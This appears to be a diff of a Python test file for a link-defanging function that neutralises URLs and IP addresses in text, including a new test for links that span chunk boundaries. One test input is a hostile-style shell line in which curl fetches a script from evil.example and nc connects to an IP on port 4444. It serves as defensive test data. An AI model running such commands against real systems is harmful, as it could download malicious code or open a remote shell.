@@ -72,10 +72,19 @@ def test_it_reads_as_people_write_it(text: str, said: str) -> None:
 
 def test_in_a_text_only_links_are_defanged() -> None:
     text = "curl -o a.sh http://evil.example/a.sh; nc 203.0.113.7 4444 # v1.2 www.evil.example"
-    assert defang_links(text) == (
+    (done,) = defang_links(text)
+    assert done == (
         "curl -o a.sh hxxp[://]evil[.]example/a[.]sh; nc 203[.]0[.]113[.]7 4444 # v1.2 "
         "www[.]evil[.]example"
     )
+
+
+def test_a_link_may_lie_across_parts() -> None:
+    whole = "say http://evil.example/x.y now 1.2.3.4."
+    for first in range(len(whole)):
+        for second in range(first, len(whole), 5):
+            parts = defang_links(whole[:first], whole[first:second], whole[second:])
+            assert "".join(parts) == "say hxxp[://]evil[.]example/x[.]y now 1[.]2[.]3[.]4."
 
 
 @pytest.mark.parametrize(
